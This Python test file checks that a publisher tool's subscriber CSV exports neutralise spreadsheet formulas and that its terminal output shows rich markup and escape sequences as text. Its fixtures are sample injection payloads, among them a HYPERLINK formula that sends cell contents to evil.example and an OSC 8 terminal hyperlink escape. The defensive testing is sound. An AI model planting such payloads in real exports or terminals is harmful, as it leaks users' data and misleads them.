"""The operator's tools show readers' text as text: no spreadsheet formula in any CSV publisher
writes (and the export reads back unchanged), no rich markup or terminal escape in a table."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from conftest import Site
from publisher.csv_cells import from_csv_cell, to_csv_cell
from publisher.model import SubscriberStatus
from publisher.subscriptions import add

# name -> address; each name or address is one a spreadsheet would run, or rich would read
READERS = {
    '=HYPERLINK("https://evil.example/?"&A1,"click")': "a@example.org",
    "+1+2": "b@example.org",
    "-2+3": "c@example.org",
    "@SUM(1,2)": "d@example.org",
    "'=already quoted": "e@example.org",
    "''+twice": "f@example.org",
    "it's fine": "g@example.org",
    "[/bold] closes nothing": "h@example.org",
    "[link=https://evil.example]click me[/link]": "i@example.org",
    "王小明": "=1+1@example.org",
    "plain": "-minus@example.org",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def subscribed(site: Site) -> None:
    app = site.app()
    try:
        for name, email in READERS.items():
            add(app.store, email, name, (), SubscriberStatus.CONFIRMED, site.clock_now, app.offered)
    finally:
        app.close()


def no_formula(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text)))
    for row in rows:
        for key, value in row.items():
            assert not value.startswith(FORMULA_START), (key, value)
    return rows


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@a", "\tx", "\rx", "'=1", "''@", "'", "x=1", "", "'x"])
def test_a_cell_reads_back_as_it_was_written(value: str) -> None:
    written = to_csv_cell(value)
    assert not written.startswith(FORMULA_START)
    assert from_csv_cell(written) == value


def test_subscribers_list_as_csv_holds_no_formula(site: Site) -> None:
    subscribed(site)
    result = site.cli("subscribers", "list", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = no_formula(result.stdout)
    by_email = {from_csv_cell(r["email"]): r for r in rows}
    assert by_email["a@example.org"]["name"] == "'" + '=HYPERLINK("https://evil.example/?"&A1,"click")'
    assert by_email["=1+1@example.org"]["email"] == "'=1+1@example.org"
    assert by_email["g@example.org"]["name"] == "it's fine"  # a quote elsewhere is left alone


def test_the_export_holds_no_formula_and_imports_back_unchanged(site: Site, make_site: object, tmp_path: Path) -> None:
    subscribed(site)
    export = tmp_path / "list.csv"
    assert site.cli("subscribers", "export", str(export)).exit_code == 0
    no_formula(export.read_text(encoding="utf-8"))
    stdout = site.cli("subscribers", "export")
    no_formula(stdout.stdout)

    other = make_site()  # type: ignore[operator]
    imported = other.cli("subscribers", "import", str(export))
    assert imported.exit_code == 0, imported.output
    app = other.app()
    try:
        names = {s.email: s.name for s in app.store.subscribers()}
    finally:
        app.close()
    assert names == {email: name for name, email in READERS.items()}


def test_subscribers_list_on_a_terminal_shows_markup_as_text(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    from publisher.cli import base

    subscribed(site)
    monkeypatch.setattr(base.out, "_force_terminal", True)  # the real console, as on a terminal
    monkeypatch.setattr(base.out, "_width", 300)
    result = site.cli("subscribers", "list")
    assert result.exit_code == 0, result.output
    assert "[/bold] closes nothing" in result.stdout
    assert "[link=https://evil.example]click me[/link]" in result.stdout
    assert "\x1b]8;" not in result.stdout  # no terminal hyperlink


def test_a_control_character_in_a_name_is_shown_not_sent_to_the_terminal(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    from publisher.store import Store

    app = site.app()
    try:  # as a store written before names were cleaned may hold it
        add(app.store, "esc@example.org", "x", (), SubscriberStatus.CONFIRMED, site.clock_now, app.offered)
        stored = app.store.subscriber("esc@example.org")
        assert stored is not None
        from dataclasses import replace

        Store.save_subscribers(app.store, [replace(stored, name="a\x1b]8;;https://evil.example\x1b\\b")])
    finally:
        app.close()
    result = site.cli("subscribers", "list")
    assert "\x1b" not in result.stdout
    assert "a\\u001b]8;;https://evil.example\\u001b\\b" in result.stdout


def test_a_failed_source_named_with_markup_is_printed_as_it_is(site: Site) -> None:
    site.append_config('\n[[sources]]\ntype = "files"\nname = "[/red] news"\npath = "/nonexistent/folder"\n')
    result = site.cli("build")
    assert "[/red] news" in result.output


def test_every_line_the_cli_prints_is_text_not_markup(site: Site, tmp_path: Path) -> None:
    """Not only tables: an address or a file name typed with markup is printed as typed."""
    site.build()
    missing = site.cli("subscribers", "remove", "[/bold]x@example.org")
    assert missing.exit_code == 1
    assert "[/bold]x@example.org is not on the list" in missing.output
    target = tmp_path / "[link=mailto:x@evil.example]list.csv"
    exported = site.cli("subscribers", "export", str(target))
    assert exported.exit_code == 0, exported.output
    assert f"to {target}" in exported.output
